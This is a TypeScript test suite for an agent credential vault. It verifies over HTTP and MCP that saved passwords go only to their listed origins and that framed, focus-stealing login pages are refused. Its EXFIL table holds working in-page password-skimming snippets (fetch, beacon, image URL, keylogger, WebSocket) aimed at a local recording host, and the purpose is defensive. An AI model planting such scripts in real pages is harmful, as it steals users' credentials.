// Issue 37 as an attacker with an agent's scopes would try it (docs/security.md#a-saved-secret-goes-only-where-it-belongs): a saved login's secrets go only
// to its origins. A page on the saved login's own origin whose form, script, beacon, image or WebSocket sends the
// password to another origin is stopped before the request leaves (422 CREDENTIAL_ORIGIN_MISMATCH naming that
// origin); a login pointed at a page off the saved origins (a page that frames the real login page and steals the
// focus) is refused before any page loads. In each, a recording site proves not one character of any secret
// arrived. A listed second origin still gets the password (the control that shows the recorder would see it).
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callTool, textOf } from '../../../helpers/mcp-agent.js';
import { startSite, type FixtureSite } from '../../../fixtures/sites/index.js';
import {
  focusStealingPage,
  startRecordingSite,
  type RecordingRoute,
  type RecordingSite,
} from '../../../helpers/recording-site.js';
import { startTestServer, type TestServer } from '../../../helpers/test-server.js';
import { distinctSecret, findSecrets, type Json } from '../../../helpers/vault-logins.js';

const USERNAME = 'ada@example.com';

/** How a page on the saved login's origin sends the password to `dest` as the form is submitted. */
const EXFIL: Record<string, (dest: string) => string> = {
  'the form posts to another origin': (dest) => `f.action = '${dest}/collect';`,
  'a script posts it with fetch (JSON)': (dest) =>
    `f.addEventListener('submit', () => fetch('${dest}/c', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({ p: pw.value }) }));`,
  'a beacon carries it base64-encoded': (dest) =>
    `f.addEventListener('submit', () => navigator.sendBeacon('${dest}/b', btoa(pw.value)));`,
  'an image URL carries it percent-encoded': (dest) =>
    `f.addEventListener('submit', () => { new Image().src = '${dest}/i?p=' + encodeURIComponent(pw.value); });`,
  'a keylogger sends each input': (dest) =>
    `pw.addEventListener('input', () => fetch('${dest}/k?v=' + encodeURIComponent(pw.value), { mode: 'no-cors' }));`,
  'a WebSocket message carries it': (dest) =>
    `const ws = new WebSocket('${dest.replace('http', 'ws')}/ws');
     f.addEventListener('submit', (e) => { e.preventDefault(); ws.send(JSON.stringify({ p: pw.value }));
       setTimeout(() => HTMLFormElement.prototype.submit.call(f), 300); });`,
};

/** A login page on the site's origin: a plain form that signs in with the right password, plus `script`. */
function loginPage(password: string, script: string): RecordingRoute {
  return (req) => {
    if (req.method === 'POST') {
      const form = new URLSearchParams(req.body);
      return form.get('password') === password
        ? { status: 303, headers: { location: '/home', 'set-cookie': 'sid=ok-session-1234; Path=/; HttpOnly' } }
        : { status: 200, body: '<p role="alert">Wrong email or password</p>' };
    }
    return {
      body: `<!doctype html><title>Sign in</title><form id="f" method="post">
        <label>Email <input name="username" type="email" autocomplete="username"></label>
        <label>Password <input name="password" type="password" autocomplete="current-password"></label>
        <button type="submit">Sign in</button></form>
        <script>const f = document.getElementById('f'); const pw = f.querySelector('[name=password]'); ${script}</script>`,
    };
  };
}

const home = (req: { headers: Record<string, string | string[] | undefined> }) =>
  String(req.headers.cookie ?? '').includes('sid=ok-session')
    ? { body: '<h1>Dashboard</h1><a href="/logout">Sign out</a><p>Signed in as ada</p>' }
    : { status: 302, headers: { location: '/login' } };

let server: TestServer;
/**
 * Run once the server (and its browser) is closed: a request let go as a login's page closed (a paused beacon the
 * browser sent on once nobody held it) arrives after its test, so each recorder is asked once more at the very end.
 */
const lateChecks: (() => Promise<void>)[] = [];
beforeAll(async () => {
  server = await startTestServer({ login: { timeoutMs: 30_000 } });
});
afterAll(async () => {
  await server?.close();
  for (const check of lateChecks) await check();
});

async function post(path: string, json: Json): Promise<{ status: number; body: Json }> {
  const res = await server.request(path, { method: 'POST', json });
  return { status: res.status, body: (await res.json()) as Json };
}

async function saveLogin(label: string, loginUrl: string, password: string, origins?: string[]): Promise<string> {
  const { status, body } = await post('/api/credentials', {
    label,
    loginUrl,
    username: USERNAME,
    password,
    ...(origins ? { origins } : {}),
  });
  expect(status, JSON.stringify(body)).toBe(201);
  return body.id as string;
}

describe('a page on the saved login’s own origin that sends the password elsewhere', () => {
  let site: RecordingSite;
  let elsewhere: RecordingSite;
  /** The passwords no request may carry to `elsewhere`, ever: also not late, after its test has ended. */
  const refused: Record<string, string> = {};
  beforeAll(async () => {
    [site, elsewhere] = await Promise.all([startRecordingSite('127.0.0.1'), startRecordingSite('127.0.0.2')]);
    site.route('/home', home);
  });
  afterAll(() => {
    lateChecks.push(async () => {
      await fetch(elsewhere.url('/last'));
      expect(findSecrets(elsewhere.haystacks(), refused)).toEqual([]);
      await Promise.all([site?.close(), elsewhere?.close()]);
    });
  });

  it.each(Object.keys(EXFIL))('%s: blocked before it leaves, 422 naming the origin', async (how) => {
    const password = distinctSecret('pw');
    refused[how] = password;
    const path = `/login-${Object.keys(EXFIL).indexOf(how)}`;
    site.route(path, loginPage(password, EXFIL[how]!(elsewhere.origin)));
    const id = await saveLogin(`Exfil ${how}`, site.url(path), password);
    const before = elsewhere.requests.length + elsewhere.webSockets.length; // (the list below is in order)

    const { status, body } = await post('/api/login', { credential: id, useCache: false });
    expect(status, JSON.stringify(body)).toBe(422);
    expect(body.error).toBe('CREDENTIAL_ORIGIN_MISMATCH');
    expect(String(body.message)).toContain(elsewhere.origin);
    expect(findSecrets(elsewhere.haystacks(), { password })).toEqual([]);
    expect(JSON.stringify(body)).not.toContain(password);
    // Nothing that carries data arrived either (not even a part of the password): the WebSocket itself may open.
    const arrived = [...elsewhere.requests, ...elsewhere.webSockets].slice(before);
    const withData = arrived.filter((r) => ('body' in r ? r.body !== '' || r.url.includes('?') : r.messages.length));
    expect(withData, JSON.stringify(arrived)).toEqual([]);
  });

  it('a second origin the saved login lists gets the password, and the login succeeds', async () => {
    const password = distinctSecret('pw-listed');
    site.route('/login-listed', loginPage(password, EXFIL['a script posts it with fetch (JSON)']!(elsewhere.origin)));
    const id = await saveLogin('Listed API origin', site.url('/login-listed'), password, [
      site.origin,
      elsewhere.origin,
    ]);
    const { status, body } = await post('/api/login', { credential: id, useCache: false });
    expect(status, JSON.stringify(body)).toBe(200);
    expect(findSecrets(elsewhere.haystacks(), { password }).length).toBeGreaterThan(0);
  });

  it('inline credentials: another site is refused, another origin of the same site is allowed', async () => {
    const password = distinctSecret('pw-inline');
    const sameSite = await startRecordingSite('127.0.0.1');
    try {
      site.route('/login-inline', loginPage(password, EXFIL['a beacon carries it base64-encoded']!(elsewhere.origin)));
      const refused = await post('/api/login', {
        domain: site.url('/login-inline'),
        cred: { username: USERNAME, password },
        useCache: false,
      });
      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
      expect(refused.body.error).toBe('CREDENTIAL_ORIGIN_MISMATCH');
      expect(findSecrets(elsewhere.haystacks(), { password })).toEqual([]);

      site.route(
        '/login-inline-api',
        loginPage(password, EXFIL['a beacon carries it base64-encoded']!(sameSite.origin)),
      );
      const allowed = await post('/api/login', {
        domain: site.url('/login-inline-api'),
        cred: { username: USERNAME, password },
        useCache: false,
      });
      expect(allowed.status, JSON.stringify(allowed.body)).toBe(200);
      expect(sameSite.requests.some((r) => r.body === Buffer.from(password).toString('base64'))).toBe(true);
    } finally {
      await sameSite.close();
    }
  });
});

describe('a login pointed at a page off the saved origins (it frames the real login page and steals the focus)', () => {
  let legit: FixtureSite;
  const password = distinctSecret('pw-framed');
  beforeAll(async () => {
    legit = await startSite('classic-csrf', { password });
  });
  afterAll(async () => {
    await legit?.close();
  });

  it.each([
    ['another site (localhost)', 'localhost'],
    ['the same site (another port)', '127.0.0.1'],
    ['another loopback address', '127.0.0.2'],
  ] as const)('on %s: refused before any page loads, over HTTP and MCP', async (_name, host) => {
    const attacker = await startRecordingSite(host, {});
    try {
      attacker.route('/', focusStealingPage(legit.loginUrl));
      const id = await saveLogin(`Framed ${host}`, legit.loginUrl, password);
      const { status, body } = await post('/api/login', { credential: id, domain: attacker.url('/'), useCache: false });
      expect(status, JSON.stringify(body)).toBe(422);
      expect(body.error).toBe('CREDENTIAL_ORIGIN_MISMATCH');

      const mcp = new Client({ name: 'vault-egress', version: '1.0.0' });
      await mcp.connect(
        new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), {
          requestInit: { headers: { authorization: `Bearer ${server.key}` } },
        }),
      );
      try {
        const result = await callTool(mcp, 'login', { credential: id, domain: attacker.url('/'), useCache: false });
        expect(result.isError).toBe(true);
        expect(textOf(result)).toContain('CREDENTIAL_ORIGIN_MISMATCH');
      } finally {
        await mcp.close();
      }
      // No page was opened: the framing page was never even asked for.
      expect(attacker.requests).toEqual([]);
      expect(findSecrets(attacker.haystacks(), { password })).toEqual([]);
    } finally {
      await attacker.close();
    }
  });
});
